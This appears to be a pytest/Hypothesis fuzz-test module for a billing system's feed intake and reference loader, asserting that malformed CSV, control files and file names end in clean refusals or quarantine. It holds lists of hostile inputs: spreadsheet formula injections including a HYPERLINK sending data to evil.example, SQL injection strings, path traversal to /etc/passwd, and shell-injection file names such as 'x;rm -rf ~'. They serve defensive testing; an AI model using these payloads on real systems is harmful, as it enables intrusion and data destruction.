"""Bad input, fuzzed: the feed intake and the reference loader fed random bytes, random CSV
shapes, huge fields, spreadsheet formulas, SQL and file-name tricks.

Whatever arrives ends as something an operator can act on — a refusal naming the file (the
CLI's exit code 2 with an ``error:`` line and no traceback) or a status with a message (INVL
transactions, a feed quarantined beside its REASON.txt) — never an unexpected exception, and
nothing is written outside ``$BILLING_HOME``. Strings that are formulas in a spreadsheet or SQL
in a careless query are data: stored verbatim, and the tables are still there.

CI tries a few examples of each property; ``BILLING_FUZZ_EXAMPLES=3000`` tries that many of
each. The cases tried are counted and printed at the end of the module.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from collections import Counter
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from dagster import DagsterInstance
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import and_, func, select

from billing.cli import main
from billing.db import schema
from billing.db.schema import txn_detail, txn_detail_stg, txn_header
from billing.errors import ReferenceDataError
from billing.feeds.inbox import REASON_FILE, identify
from billing.reference.loader import load_reference
from billing.reference.spec import SPECS, Kind
from jobs.launch import run_aggregation, run_feed_job
from tests.test_feed_intake import _sensor
from tests.world import (BUSINESS_DATE, HEADER, REFERENCE, REFERENCE_TABLES, load_world, rows, run_feed, write_feed,
                         write_reference)

CASES: Counter = Counter()  # examples run, by property (and outcome), over the module


def _examples(default: int) -> settings:
    count = int(os.environ.get("BILLING_FUZZ_EXAMPLES") or default)
    return settings(max_examples=count, deadline=None, suppress_health_check=list(HealthCheck))


@pytest.fixture(scope="module", autouse=True)
def _report_cases(request):
    """Say how many cases each property tried: the number the issue's note quotes."""
    yield
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is not None and capture is not None and CASES:
        with capture.global_and_fixture_disabled():
            reporter.write_line("")
            reporter.write_line("fuzz cases tried: " + ", ".join(f"{name} {n}" for name, n in sorted(CASES.items())))


@pytest.fixture
def fuzz_world(engine, billing_home, tmp_path):
    load_world(engine, tmp_path / "reference")
    return engine


# --- what an unfriendly world sends ---------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-1+2", "@SUM(A1:A2)",
            "\t=1+1", "=1+1\r"]
SQL = ["'; DROP TABLE txn_detail; --", "' OR '1'='1", '"; DELETE FROM txn_header; --', "1; SELECT pg_sleep(10)",
       "%", "_", "\\", "\\N", "\\.", "NULL", "null", "$1", ":name", "?"]
PATH_TRICKS = ["../../outside/bait.csv", "../inbox", "/etc/passwd", "C:\\Windows\\win.ini", "..", ".", "~", "CON",
               "a/b"]
ODD = ["", " ", "\ufeff", "\u202e", "日本語", "🙂", "٣", "１", "1e5", "NaN", "Infinity", "-0", "0x1F", "9" * 19,
       "1." + "1" * 13, "9" * 5000, "\r\n", '"', '""', ",", "2026-13-45", "2026-11-10T99:99", "0001-01-01",
       "9999-12-31", "5.00", "A1", "USD", "CHQ", "2026-11-10"]
NASTY = FORMULAS + SQL + PATH_TRICKS + ODD
# No NUL here: a NUL makes a whole file unreadable, so the data files get one on purpose, sometimes.
CELLS = st.one_of(st.sampled_from(NASTY),
                  st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=12))
HUGE = [None] * 6 + [300, 131_073, 1_000_000]  # a cell of that many characters, sometimes
TEXT_DECIMAL = re.compile(r"[+-]?(?:[0-9]{1,18}(?:\.[0-9]{0,12})?|\.[0-9]{1,12})")  # DESIGN §4.3 "decimals"
OK_ROW = ["", "2026-11-10", "A1", "CHQ", "USD", "5.00", "1", ""]  # HEADER's columns; the id is filled in
COLUMNS = HEADER.split(",")


@dataclass
class FuzzFile:
    data: bytes
    records: list[list[str]] | None  # the data records a CSV reader finds; None when it finds none
    header: list[str]
    readable: bool  # UTF-8 CSV text, a header with the required columns once, no NUL, no huge cell


@st.composite
def data_files(draw) -> FuzzFile:
    """A feed's data file: the usual columns with some cells replaced, rows of the wrong width,
    a header shuffled, short of a column or with one twice, a huge cell, a BOM, bytes that are
    not UTF-8, or random bytes altogether."""
    header = list(COLUMNS)
    shape = draw(st.sampled_from(["same"] * 4 + ["shuffled", "extra", "extra", "missing", "twice", "nasty"]))
    if shape == "shuffled":
        header = draw(st.permutations(header))
    elif shape == "extra":
        header.append(draw(CELLS.filter(lambda name: name.strip() not in COLUMNS)))
    elif shape == "missing":
        header.remove(draw(st.sampled_from(COLUMNS[:7])))
    elif shape == "twice":
        header.append(draw(st.sampled_from(COLUMNS)))
    elif shape == "nasty":
        header[draw(st.integers(0, len(header) - 1))] = draw(CELLS)
    records = []
    for number in range(draw(st.integers(0, 6))):
        row = dict(zip(COLUMNS, OK_ROW), external_txn_id=f"T{number}")
        cells = [row.get(name, "x") for name in header]
        for _ in range(draw(st.integers(0, 3))):
            cells[draw(st.integers(0, len(cells) - 1))] = draw(CELLS)
        width = draw(st.sampled_from([len(cells)] * 4 + [0, 1, len(cells) - 1, len(cells) + 1]))
        records.append((cells + [""] * width)[:width])
    for odd in (draw(st.sampled_from(HUGE)), draw(st.sampled_from([None] * 9 + ["a\x00b"]))):
        row = draw(st.integers(0, len(records) - 1)) if odd and records else None
        if row is not None and records[row]:
            records[row][draw(st.integers(0, len(records[row]) - 1))] = "Z" * odd if isinstance(odd, int) else odd
    mode = draw(st.sampled_from(["csv"] * 5 + ["joined", "bytes"]))
    if mode == "bytes":
        data = draw(st.binary(max_size=300))
    else:
        if mode == "csv":
            buffer = io.StringIO()
            quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
            writer = csv.writer(buffer, quoting=quoting, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
            writer.writerows([header, *records])
            text = buffer.getvalue()
        else:  # cells as they come, unquoted: quotes and line breaks inside them reshape the file
            text = "\n".join(",".join(cells) for cells in [header, *records]) + "\n"
        data = (b"\xef\xbb\xbf" if draw(st.booleans()) else b"") + text.encode("utf-8")
        if draw(st.sampled_from([False] * 5 + [True])):
            at = draw(st.integers(0, len(data)))
            data = data[:at] + draw(st.binary(min_size=1, max_size=3)) + data[at:]
    return _as_read(data)


def _as_read(data: bytes) -> FuzzFile:
    """What the file holds for any CSV reader (DESIGN §4.3: UTF-8, a header row): its header and
    data records (blank lines are none), or None when it is no UTF-8 CSV; readable when the
    header names the required columns once and no NUL makes it binary."""
    try:
        text = data.decode("utf-8-sig")
        header, *found = list(csv.reader(io.StringIO(text, newline=""))) or [[]]
    except (UnicodeDecodeError, csv.Error):  # csv.Error: a field over the limit of 131,072 characters
        return FuzzFile(data, None, [], False)
    names = [name.strip() for name in header]
    readable = "\x00" not in text and len(set(names)) == len(names) and set(COLUMNS[:7]) <= set(names)
    return FuzzFile(data, [cells for cells in found if cells not in ([], [""])], header, readable)


def _control(name: str, external_id: str, fuzz: FuzzFile) -> dict:
    """A good control file for ``fuzz``: the record count and the totals over the rows whose
    amount and volume are decimals (DESIGN §4.3) of the records a CSV reader finds."""
    records = fuzz.records or []
    totals = {"amount": Decimal(0), "volume": Decimal(0)}
    for cells in records:
        if len(cells) != len(fuzz.header):
            continue
        row = dict(zip([name.strip() for name in fuzz.header], cells))
        for column in totals:
            cell = row.get(column, "").strip()
            if TEXT_DECIMAL.fullmatch(cell):
                totals[column] += Decimal(cell)
    return {"external_header_id": external_id, "header_date": "2026-11-20", "source": "BANKA", "division": "US",
            "record_count": len(records), "total_amount": str(totals["amount"]),
            "total_volume": str(totals["volume"]), "data_file": f"{name}.csv"}


# --- what must hold whatever came in ---------------------------------------------------------------

def _outside(tmp_path: Path, home: Path) -> dict[str, tuple]:
    """Every file and folder of the test's temporary folder outside ``$BILLING_HOME`` (but the
    test's own SQLite database), with its size and modification time: a write, move or deletion
    out there changes it."""
    found = {}
    for folder, dirs, files in os.walk(tmp_path):
        dirs[:] = [d for d in dirs if Path(folder, d) != home]
        for name in [*dirs, *files]:
            if folder == str(tmp_path) and name.startswith("billing.db"):
                continue
            stat = Path(folder, name).lstat()
            found[os.path.relpath(Path(folder, name), tmp_path)] = (stat.st_size, stat.st_mtime_ns)
    return found


def _clean_exit(result, *names: str) -> None:
    """The CLI either did it (0) or refused with a message naming the file (2), never a traceback."""
    output = result.output
    assert "Traceback" not in output and "sys.set_int_max_str_digits" not in output  # no advice for programmers
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code in (0, 2), output
    if result.exit_code == 2 and output.startswith("error:"):
        said = output.replace("\r\n", "\n")  # as a terminal shows it
        assert any(name.replace("\r\n", "\n") in said for name in names), output


def _empty_inbox(paths) -> None:
    """What an earlier, failed example left in the inbox goes: each example sees only its own."""
    for path in paths.inbox.iterdir():
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink()


def _tables_intact(engine, reference: dict | None = None) -> None:
    """The tables a hostile string names still answer; the reference data is as it was."""
    with engine.connect() as conn:
        for table in (txn_header, txn_detail, txn_detail_stg, schema.accounts, schema.pricing):
            conn.execute(select(func.count()).select_from(table)).scalar()
    if reference is not None:
        assert _reference_snapshot(engine) == reference


def _feed_outcome(engine, paths, header_id: str, fuzz: FuzzFile | None = None) -> str:
    """Every data row of the feed ended in a status, INVL ones with a message; or the feed was
    refused whole at upload, INVL with the reason, its files in quarantine beside REASON.txt."""
    [(status, message, file_count, data_name)] = rows(engine, txn_header, "status", "message", "file_record_count",
                                                      "data_file", where=txn_header.c.header_id == header_id)
    found = []
    for table in (txn_detail, txn_detail_stg):
        found += rows(engine, table, "row_no", "status", "external_txn_id", "attributes",
                      *(["message"] if table is txn_detail else ["parse_error"]), where=table.c.header_id == header_id)
    if status == "INVL" and file_count is None:  # the file could not be read at all
        assert found == []
        assert message and f"data file {data_name}" in message
        folder = paths.quarantine / header_id
        assert message.strip() in (folder / REASON_FILE).read_text(encoding="utf-8")
        assert (folder / data_name).is_file()
        assert fuzz is None or not fuzz.readable, message
        return "refused at upload"
    assert status in ("VALI", "INVL")
    assert (paths.archive / header_id / data_name).is_file()
    found.sort()
    if fuzz is not None and fuzz.records is not None:
        assert [row_no for row_no, *_ in found] == list(range(1, len(fuzz.records) + 1))
    for row_no, txn_status, external_id, attributes, text in found:
        assert txn_status in ("INVL", "EROR", "IGNR", "COMP", "INPD", "UPLD")
        if txn_status == "INVL":
            assert text, f"row {row_no} is INVL without a message"
        if status == "VALI" and fuzz is not None and fuzz.records is not None:
            _verbatim(fuzz, fuzz.records[row_no - 1], external_id, attributes, txn_status)
    return "header invalid" if status == "INVL" else "validated"


def _verbatim(fuzz: FuzzFile, cells: list[str], external_id, attributes, status: str) -> None:
    """What a well-formed row said is what is stored: formulas and SQL are data."""
    if len(cells) != len(fuzz.header) or status == "INVL":
        return
    row = dict(zip([name.strip() for name in fuzz.header], cells))
    assert external_id == row["external_txn_id"].strip()
    extra = {name: value.strip() for name, value in row.items() if name not in COLUMNS}
    if extra:
        assert json.loads(attributes) == extra


# --- the properties ------------------------------------------------------------------------------

@given(fuzz=data_files())
@_examples(default=15)
def test_any_data_file_ends_in_statuses_with_messages(fuzz_world, billing_home, tmp_path, fuzz):
    """A data file of any shape, submitted with a good control file through `billing feed
    submit` and processed by the aggregation job: the run succeeds, and each row has a status
    (INVL ones a message) or the whole file is refused with its reason in quarantine."""
    number = CASES["data file"]
    CASES["data file"] += 1
    _empty_inbox(billing_home)
    drop = tmp_path / f"drop-{number}"
    drop.mkdir()
    name = f"fz{number}"
    (drop / f"{name}.csv").write_bytes(fuzz.data)
    control = drop / f"{name}.ctl.json"
    control.write_text(json.dumps(_control(name, f"FZ-{number}", fuzz)), encoding="utf-8")
    before, reference = _outside(tmp_path, billing_home.home), _reference_snapshot(fuzz_world)

    submitted = CliRunner().invoke(main, ["feed", "submit", str(drop / f"{name}.csv"), str(control)])
    assert submitted.exit_code == 0, submitted.output
    feed = identify(billing_home.inbox / control.name)
    outcome = run_aggregation(DagsterInstance.ephemeral(), feed, BUSINESS_DATE)
    assert outcome.success, outcome.failures

    CASES["data file: " + _feed_outcome(fuzz_world, billing_home, feed.header_id, fuzz)] += 1
    assert not list(billing_home.inbox.glob("*.ctl.json"))
    assert _outside(tmp_path, billing_home.home) == before
    _tables_intact(fuzz_world, reference)
    shutil.rmtree(drop)  # the next example's walk stays short


GOOD_DATA = "\n".join([HEADER, "G1,2026-11-10,A1,CHQ,USD,5.00,1,", "G2,2026-11-11,A1,CHQ,USD,2.50,2,"]) + "\n"
JSON_VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=10), st.sampled_from(NASTY)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
    max_leaves=6,
)
GOOD_VALUES = {"header_date": "2026-11-20", "source": "BANKA", "division": "US", "record_count": 2,
               "total_amount": "7.50", "total_volume": "3"}
FIELD_TRICKS = {
    "external_header_id": ["X" * 201, "A\x00B", "../../x", "=cmd|' /C calc'!A0"],
    "header_date": ["2026-02-30", "20261120", "2026-11-20T10:00", "", 20261120],
    "source": ["S" * 41, "A\x00", "../", "'; DROP TABLE txn_header; --"],
    "division": ["D" * 41, "\x00", "EU", "ZZ"],
    "record_count": [-1, "2", 2.0, True, 10**30, "9" * 5000, 2**31, 99_999_999, 100_000_000],
    "total_amount": ["1E+999999999", "-1E-999999999", "1e400", "NaN", "Infinity", 7.5, "7.500", "1" * 40, True],
    "total_volume": ["3.0", "0", "-3", "1E+30", "0.0000000000001"],
}
FILE_NAMES = st.one_of(
    st.sampled_from(["feed", "-feed", ".hidden", "", ".", "..", " ", "a b", "a\nb", "$(touch PWNED)", "`id`",
                     "x;rm -rf ~", "*", "?", "%s%n", "CON", "日本語", "é" * 100, "日" * 80, "a" * 191, "a" * 201,
                     "a" * 246, "feed.ctl.json", "feed.csv", "\u202egnp.exe"]),
    st.text(st.characters(exclude_characters="/\x00", exclude_categories=["Cs"]), min_size=1, max_size=20),
)
HOME_ENTRIES = {"inbox", "archive", "quarantine", "processing", "outbox", "warehouse", "dagster"}
SUFFIXES = st.sampled_from([".ctl.json"] * 4 + [".json", ".CTL.JSON", ""])
PATH_NAMES = ["../{data}", "../../outside/bait.csv", "{bait}", "/etc/hostname", "sub/{data}", "{data}/", "./{data}",
              "{data}\x00.txt", "\x00", "", ".", "..", "/", "~/{data}", "..\\{data}", " {data}", "{data} ",
              "a" * 201 + ".csv", "é" * 130 + ".csv", "a" * 300 + ".csv", "{control}", "other.ctl.json",
              "{data}.ctl.json", "inbox", "outside"]


@st.composite
def control_drops(draw):
    """A control file and its data file as they might be named and written: tricks in every
    field (path tricks in data_file above all), raw text that is not JSON, nesting past any
    limit, and file names that are long, hidden, shell-like or not named ``*.ctl.json``."""
    data_name = draw(st.one_of(st.just("feed.csv"), FILE_NAMES.map(lambda n: n + ".csv")))
    control_name = draw(st.one_of(st.just("feed"), FILE_NAMES)) + draw(SUFFIXES)
    document = {"external_header_id": "{ext}", **GOOD_VALUES, "data_file": data_name}
    for key in draw(st.sets(st.sampled_from(sorted(document)), max_size=3)):
        if key == "data_file":
            document[key] = draw(st.sampled_from(PATH_NAMES))
        else:
            document[key] = draw(st.one_of(st.sampled_from(FIELD_TRICKS.get(key, [None])), JSON_VALUES))
    for key in draw(st.sets(st.sampled_from(sorted(document)), max_size=1)):
        del document[key]
    raw = draw(st.sampled_from([None] * 6 + ["deep", "deep-object", "huge-int", "bytes", "array", "bom", "empty"]))
    return data_name, control_name, document, raw, draw(st.binary(max_size=50))


def _control_bytes(document: dict, raw: str | None, noise: bytes, names: dict) -> bytes:
    if raw == "deep":
        return b"[" * 100_000 + b"]" * 100_000
    if raw == "deep-object":
        return b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    if raw == "huge-int":
        return json.dumps(document).replace('"record_count": ', '"record_count": ' + "9" * 5000 + ", \"x\": ").encode()
    if raw == "bytes":
        return noise
    if raw == "array":
        return json.dumps([document]).encode()
    if raw == "empty":
        return b""
    text = json.dumps(document, default=str)
    for token, value in names.items():
        text = text.replace(token, json.dumps(value)[1:-1])
    return (b"\xef\xbb\xbf" if raw == "bom" else b"") + text.encode("utf-8")


def _write_file(folder: Path, name: str, data: bytes) -> Path | None:
    """The file, when the file system can hold such a name (not '', '.', '..', nor over 255 bytes)."""
    path = folder / name
    if name in ("", ".", "..") or len(name.encode()) > 255 or path.parent != folder:
        return None
    path.write_bytes(data)
    return path


@given(drop=control_drops())
@_examples(default=40)
def test_any_control_file_or_file_name_is_processed_or_quarantined(fuzz_world, billing_home, tmp_path, drop):
    """Control files with tricks in every field and file names of every kind: `billing feed
    submit` places the feed or refuses it naming the file, never a traceback; whatever then
    lies in the inbox the feed sensor turns into a run that succeeds or into quarantine with
    a reason; a data_file that points outside its folder is never read, moved nor written."""
    data_name, control_name, document, raw, noise = drop
    number = CASES["control file"]
    CASES["control file"] += 1
    _empty_inbox(billing_home)
    drop_folder = tmp_path / f"drop-{number}"
    (drop_folder / "sub").mkdir(parents=True)
    outside = tmp_path / "outside"
    if not outside.exists():
        outside.mkdir()
        (outside / "bait.csv").write_text(GOOD_DATA, encoding="utf-8")
    names = {"{data}": data_name, "{bait}": str(outside / "bait.csv"), "{control}": control_name,
             "{ext}": f"CF-{number}"}
    data = _write_file(drop_folder, data_name, GOOD_DATA.encode())
    control = _write_file(drop_folder, control_name, _control_bytes(document, raw, noise, names))
    if control is None or data is None or control == data:
        CASES["control file: name the file system refuses"] += 1
        return
    before, home_before = _outside(tmp_path, billing_home.home), {p.name for p in billing_home.home.iterdir()}
    reference = _reference_snapshot(fuzz_world)

    submitted = CliRunner().invoke(main, ["feed", "submit", str(data), str(control)])
    _clean_exit(submitted, control.name, data.name)
    if submitted.exit_code != 0:  # dropped in the inbox by other means, as a partner's transfer would
        for path in (data, control):
            (billing_home.inbox / path.name).write_bytes(path.read_bytes())
    instance = DagsterInstance.ephemeral()
    result = _sensor(instance)
    requests = getattr(result, "run_requests", None) or []
    for request in requests:
        outcome = run_feed_job(instance, "aggregation_job", request.partition_key, BUSINESS_DATE, dict(request.tags))
        assert outcome.success, outcome.failures
        _feed_outcome(fuzz_world, billing_home, request.partition_key)
    CASES[f"control file: {'submitted' if submitted.exit_code == 0 else 'refused'}, {len(requests)} run(s)"] += 1

    assert not [p for p in billing_home.inbox.iterdir() if p.name.endswith(".ctl.json")], "a control file was left"
    for folder in billing_home.quarantine.iterdir():
        assert (folder / REASON_FILE).is_file(), folder
    assert {p.name for p in billing_home.home.iterdir()} <= home_before | HOME_ENTRIES, "written beside the folders"
    if submitted.exit_code == 0:
        assert not (billing_home.inbox / control.name).exists(), "a submitted feed the sensor does not see"
    assert _outside(tmp_path, billing_home.home) == before
    _tables_intact(fuzz_world, reference)
    shutil.rmtree(drop_folder)


# --- the reference loader --------------------------------------------------------------------------

REFERENCE_ROWS = {name: list(csv.reader(io.StringIO(text))) for name, text in REFERENCE.items()}
# Columns of free text: neither a key nor a code another file must know; loaded as written.
FREE_TEXT = {name: [c.name for c in spec.columns if c.kind is Kind.TEXT and c.name not in spec.key
                    and c.name not in {ref.column for ref in spec.references}]
             for name, spec in SPECS.items() if name in REFERENCE and len(REFERENCE_ROWS[name]) > 1}
FREE_TEXT = {name: columns for name, columns in FREE_TEXT.items() if columns}
EXTRA_NAMES = ["Accounts.csv", "x.csv", "..csv", " accounts.csv", "accounts.csv.csv", "accounts .csv", "日本.csv",
               "=cmd.csv", "'; DROP TABLE accounts; --.csv", "a" * 251 + ".csv"]


@st.composite
def reference_folders(draw):
    """A reference folder: some of the world's files with free text replaced by anything
    (formulas and SQL above all) — or, roughly, cells of any column replaced, rows added of any
    width, headers reshaped, a huge cell, a BOM, bytes that are not UTF-8, unknown file names, a
    folder named like a file. Returns the files' bytes, the folders, and the free-text cells
    that, were the folder loaded, must read back as written."""
    rough = draw(st.booleans())
    chosen = draw(st.lists(st.sampled_from(sorted(REFERENCE if rough else FREE_TEXT)), min_size=0 if rough else 1,
                           max_size=4, unique=True))
    files: dict[str, list[list[str]]] = {name: [list(r) for r in REFERENCE_ROWS[name]] for name in chosen}
    reshaped: set[str] = set()
    edits = []
    for name in chosen:
        table = files[name]
        for _ in range(draw(st.integers(0 if rough else 1, 3))):
            kind = draw(st.sampled_from(["cell", "cell", "cell", "row", "header"] if rough else ["text"]))
            line = draw(st.integers(1, len(table) - 1)) if len(table) > 1 else 0
            if kind == "text" and line:
                column = table[0].index(draw(st.sampled_from(FREE_TEXT[name])))
                table[line][column] = draw(CELLS)
                edits.append((name, line, table[0][column]))
            elif kind == "cell" and line and table[line]:
                column = draw(st.integers(0, len(table[line]) - 1))
                table[line][column] = draw(CELLS)
                edits.append((name, line, table[0][column] if column < len(table[0]) else None))
            elif kind == "row":
                table.append(draw(st.lists(CELLS, max_size=len(table[0]) + 1)))
            elif kind == "header":
                reshaped.add(name)
                table[0] = draw(st.sampled_from([table[0][::-1], table[0][:-1], table[0] + table[0][:1],
                                                 [c.upper() for c in table[0]], table[0] + ["extra"]]))
    huge = draw(st.sampled_from(HUGE)) if rough else None
    if huge and chosen:
        name = draw(st.sampled_from(chosen))
        files[name].append(["Z" * huge] + [""] * (len(files[name][0]) - 1))
    contents: dict[str, bytes] = {}
    for name, table in files.items():
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator=draw(st.sampled_from(["\n", "\r\n"]))).writerows(table)
        data = buffer.getvalue().encode("utf-8")
        damage = draw(st.sampled_from([None] * 6 + ["bom", "splice", "bytes"])) if rough else None
        if damage == "bom":
            data = b"\xef\xbb\xbf" + data
        elif damage in ("splice", "bytes"):
            reshaped.add(name)
            noise = draw(st.binary(min_size=1, max_size=40))
            data = noise if damage == "bytes" else data[: len(data) // 2] + noise + data[len(data) // 2:]
        contents[f"{name}.csv"] = data
    for extra in draw(st.lists(st.sampled_from(EXTRA_NAMES), max_size=2 if rough else 0, unique=True)):
        contents[extra] = draw(st.sampled_from([b"", b"a,b\n1,2\n", REFERENCE["currencies"].encode()]))
    folders = draw(st.lists(st.sampled_from(["pricing.csv", "sub"]), max_size=1 if rough else 0))
    return contents, folders, _verbatim_cells(files, edits, reshaped)


def _verbatim_cells(files, edits, reshaped) -> list[tuple[str, dict, str, str]]:
    """(table, key, column, text) for the edited free-text cells of rows still well-formed."""
    found = []
    for name, line, column in edits:
        table = files[name]
        if name in reshaped or column not in FREE_TEXT.get(name, ()) or len(table[line]) != len(table[0]):
            continue
        spec, row = SPECS[name], dict(zip(table[0], table[line]))
        try:
            key = {k: spec.column(k).parse(row[k].strip()) for k in spec.key}
        except ValueError:
            continue
        found.append((name, key, column, row[column]))
    return found


def _reference_snapshot(engine) -> dict[str, list]:
    with engine.connect() as conn:
        return {name: sorted(conn.execute(select(schema.metadata.tables[name])).all(), key=repr)
                for name in sorted(REFERENCE_TABLES)}


@given(folder=reference_folders())
@_examples(default=40)
def test_any_reference_folder_is_loaded_or_refused_whole(fuzz_world, billing_home, tmp_path, folder):
    """`billing reference load` of a folder of any content loads it — free text stored as
    written, formulas and SQL included — or refuses it whole, each problem naming its file,
    with the reference tables exactly as they were."""
    contents, folders, verbatim = folder
    number = CASES["reference folder"]
    CASES["reference folder"] += 1
    target = tmp_path / f"reference-{number}"
    target.mkdir()
    for name, data in contents.items():
        _write_file(target, name, data)
    for name in folders:
        if not (target / name).exists():
            (target / name).mkdir()
    before, tables = _outside(tmp_path, billing_home.home), _reference_snapshot(fuzz_world)

    loaded = CliRunner().invoke(main, ["reference", "load", "--no-disaggregate", str(target)])
    _clean_exit(loaded, str(target), ".csv")
    if loaded.exit_code == 0:
        CASES["reference folder: loaded"] += 1
        assert "reference data load" in loaded.output
        for name, key, column, text in verbatim:
            table = schema.metadata.tables[name]
            with fuzz_world.connect() as conn:
                stored = conn.execute(select(table.c[column]).where(
                    and_(*(table.c[k] == value for k, value in key.items())))).scalar_one()
            assert stored == (text.strip() or None), (name, key, column)
    else:
        CASES["reference folder: refused"] += 1
        assert "reference data refused, nothing was loaded" in loaded.output
        problems = [line for line in loaded.output.splitlines() if line.startswith("  - ")]
        assert problems and all(".csv" in line or str(target) in line for line in problems), loaded.output
        assert _reference_snapshot(fuzz_world) == tables
    assert _outside(tmp_path, billing_home.home) == before
    _tables_intact(fuzz_world)
    shutil.rmtree(target)


# --- the cases the fuzzing found, by hand ------------------------------------------------------------

def _submit(folder: Path, control_text: str, control_name: str = "feed.ctl.json", data_name: str = "feed.csv"):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / data_name).write_text(GOOD_DATA, encoding="utf-8")
    (folder / control_name).write_text(control_text, encoding="utf-8")
    return CliRunner().invoke(main, ["feed", "submit", str(folder / data_name), str(folder / control_name)])


def _good_control(**changes) -> str:
    return json.dumps({"external_header_id": "B-1", **GOOD_VALUES, "data_file": "feed.csv", **changes})


@pytest.mark.parametrize("control_text, reason", [
    ("[" * 100_000 + "]" * 100_000, "control file feed.ctl.json is not a control file: its JSON is nested too deeply"),
    (_good_control(record_count=0).replace('"record_count": 0', '"record_count": ' + "9" * 5000),
     "control file feed.ctl.json is not a control file: it holds a number of more than 4300 digits"),
    (_good_control(data_file="a" * 300 + ".csv"), "data_file is longer than 200 characters"),
    (_good_control(data_file="é" * 130 + ".csv"), "named by control file feed.ctl.json is missing"),
    (_good_control(data_file="other.ctl.json"), "data_file 'other.ctl.json' is named like a control file"),
    (_good_control(source="S" * 41), "control file feed.ctl.json: source is longer than 40 characters"),
    (_good_control(division="U\u0000S"), "control file feed.ctl.json: division must not contain a NUL character"),
    (_good_control(external_header_id=["B", 1]), "external_header_id must be text, not a JSON array"),
    (_good_control(record_count=100_000_000), "record_count 100000000 is not valid"),
    (_good_control(total_amount="1E+999999999"), "total_amount '1E+999999999' is not valid"),
])
def test_control_files_the_fuzzing_broke_are_refused_by_name(billing_home, tmp_path, control_text, reason):
    """Each of these once ended in a traceback (RecursionError, ValueError, OSError: file name
    too long), a failed upload on PostgreSQL (text longer than its column, a NUL, an integer out
    of range, a NUMERIC overflow) or a billion-digit string; now `billing feed submit` refuses
    it with exit code 2, naming the control file and what is wrong."""
    result = _submit(tmp_path / "drop", control_text)
    assert result.exit_code == 2, result.output
    assert result.output.startswith("error: ") and reason in result.output
    assert "Traceback" not in result.output and not list(billing_home.inbox.iterdir())


def test_a_control_file_not_named_ctl_json_is_refused_at_submit(billing_home, tmp_path):
    """The sensor only looks for NAME.ctl.json: a control file named otherwise was placed in the
    inbox and reported submitted, and then never processed."""
    result = _submit(tmp_path / "drop", _good_control(), control_name="feed.json")
    assert result.exit_code == 2
    assert "error: control file feed.json must be named NAME.ctl.json" in result.output
    assert not list(billing_home.inbox.iterdir())


def test_a_control_file_with_a_long_name_is_quarantined_not_uploaded(fuzz_world, billing_home):
    """A 201-character control file name does not fit txn_header.control_file: PostgreSQL
    refused the upload. The sensor now quarantines it, saying to rename it."""
    name = "a" * 192 + ".ctl.json"
    (billing_home.inbox / "feed.csv").write_text(GOOD_DATA, encoding="utf-8")
    (billing_home.inbox / name).write_text(_good_control(), encoding="utf-8")
    assert not getattr(_sensor(DagsterInstance.ephemeral()), "run_requests", None)
    reason = (billing_home.quarantine / name[: -len(".ctl.json")] / REASON_FILE).read_text(encoding="utf-8")
    assert f"control file {name} has a name of more than 200 characters: rename it" in reason


def test_control_files_named_only_by_their_suffix_are_quarantined_inside_quarantine(fuzz_world, billing_home):
    """".ctl.json" and "..ctl.json" have the empty name and "."; their quarantine folder came out
    as $BILLING_HOME/quarantine.2, beside quarantine/, where neither operator nor retention looks."""
    for name in (".ctl.json", "..ctl.json"):
        (billing_home.inbox / name).write_text("{not json", encoding="utf-8")
    _sensor(DagsterInstance.ephemeral())
    assert sorted(p.name for p in billing_home.home.iterdir() if p.name.startswith("quarantine")) == ["quarantine"]
    folders = sorted(p.name for p in billing_home.quarantine.iterdir())
    assert folders == ["unnamed", "unnamed.2"]
    assert {p.name for folder in folders for p in (billing_home.quarantine / folder).iterdir()} == {
        REASON_FILE, ".ctl.json", "..ctl.json"}


def test_a_nul_byte_makes_the_data_file_unreadable_not_a_failed_run(fuzz_world, billing_home, tmp_path):
    """PostgreSQL cannot store a NUL in text: the COPY of the row (or of the INVL message that
    quotes a header holding one) failed, and the feed's run with it. A NUL means UTF-16 or
    binary: the feed is INVL and quarantined, the line named."""
    control = write_feed(tmp_path / "drop", "nul",
                         ["Q1,2026-11-10,A1,CHQ,USD,5.00,1,", "Q2,2026-11-10,A1,CHQ,USD,1,1,a\0b"])
    header_id, outcome = run_feed(billing_home, control)
    assert outcome.success, outcome.failures
    [(status, message)] = rows(fuzz_world, txn_header, "status", "message", where=txn_header.c.header_id == header_id)
    assert status == "INVL"
    assert message.startswith("data file nul.csv holds a NUL byte on line 3: it is not UTF-8 CSV text")
    assert message in (billing_home.quarantine / header_id / REASON_FILE).read_text(encoding="utf-8")


def test_other_digits_and_a_cell_saying_backslash_n_are_data(fuzz_world, billing_home, tmp_path):
    """An amount of Arabic-Indic digits passed the reader's \\d (SQLite then stored "٣" as money,
    PostgreSQL's COPY failed the run); it is not a decimal number. A cell saying \\N, COPY's
    NULL marker, was stored as NULL on PostgreSQL; it is stored as written, like the formula
    and the SQL beside it."""
    formula, sql = "=cmd|' /C calc'!A0", "'; DROP TABLE txn_detail; --"
    control = write_feed(tmp_path / "drop", "digits", [
        "Q1,2026-11-10,A1,CHQ,USD,٣,1,", "\\N,2026-11-10,A1,CHQ,USD,1.00,1,",
        f"\"{formula}\",2026-11-10,A1,CHQ,USD,2.00,1,", f"{sql},2026-11-10,A1,CHQ,USD,3.00,1,"], total_amount="6.00")
